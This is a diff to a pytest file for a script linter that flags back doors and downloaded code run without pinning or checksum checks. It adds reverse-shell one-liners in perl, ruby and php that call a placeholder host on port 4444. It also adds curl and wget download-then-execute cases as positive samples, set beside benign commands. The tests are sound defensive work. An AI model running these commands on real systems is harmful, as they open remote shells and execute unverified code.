@@ -8,7 +8,15 @@ import time
 
 import pytest
 
-from wa_lint.facts.scripts import _BACK_DOORS, _REMOTE_CODE, _first, script_of, with_layers
+from wa_lint.facts.scripts import (
+    _BACK_DOORS,
+    _REMOTE_CODE,
+    _first,
+    _remote_code,
+    _without_comments,
+    script_of,
+    with_layers,
+)
 
 
 def encoded(script: str) -> str:
@@ -29,6 +37,9 @@ def packed(script: str) -> str:
         "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f",
         "socat tcp:host:4444 exec:bash,pty,stderr",
         "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
+        "perl -MIO::Socket -e 'connect(S,sockaddr_in(4444,$i));exec(q(/bin/sh))'",
+        "ruby -rsocket -e 'c=TCPSocket.new(h,4444);IO.popen(c.gets)'",
+        "php -r '$s=fsockopen(h,4444);exec(q(sh <&3 >&3));'",
         "ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 me@host",
         "pip install pyngrok && python tunnel.py",
         "./xmrig -o pool:3333",
@@ -49,6 +60,8 @@ def test_a_way_in_is_found(script: str) -> None:
         "bash -c 'echo hello'",
         "socat - UNIX-CONNECT:/var/run/docker.sock",
         "pip install monero-price-history",
+        "perl -pe 's/a/b/' file",
+        "ruby server.rb",
     ],
 )
 def test_an_ordinary_command_is_no_way_in(script: str) -> None:
@@ -86,6 +99,29 @@ def test_code_that_nobody_pinned_is_found(script: str) -> None:
 )
 def test_data_and_pinned_code_pass(script: str) -> None:
     assert not _first(_REMOTE_CODE, script)
+
+
+URL = "https://example.com/get"
+
+
+@pytest.mark.parametrize(
+    ("script", "is_found"),
+    [
+        (f"curl -sLo /tmp/i.sh {URL}\nsudo bash /tmp/i.sh -y", True),
+        (f"wget {URL}/a.py\nnohup python3 a.py &", True),
+        (f'curl {URL} -o "$HOME/i"\nchmod +x "$HOME/i"\n"$HOME/i"', True),
+        (f"curl -O {URL}/env.sh && . ./env.sh", True),
+        (f"wget {URL}/i-2.4.1.sh\nbash i-2.4.1.sh", False),
+        (f"wget {URL}/4f2c9ab/i.sh\nbash i.sh", False),
+        (f"wget {URL}/i.sh\necho '5f2a  i.sh' | sha256sum -c\nbash i.sh", False),
+        (f"wget {URL}/data.csv\npython train.py data.csv", False),
+        (f"wget {URL}/a.zip\nunzip a.zip", False),
+        (f"# curl {URL} | bash", False),
+        (f"curl {URL} \\\n  | sudo -u ec2-user -i bash", True),
+    ],
+)
+def test_a_download_that_is_run_is_found_unless_it_is_pinned_or_checked(script: str, is_found: bool) -> None:
+    assert bool(_remote_code(_without_comments(script))) == is_found
 
 
 @pytest.mark.parametrize("wrap", [encoded, packed, lambda s: encoded(f"echo {packed(s)} | base64 -d | gunzip | sh")])
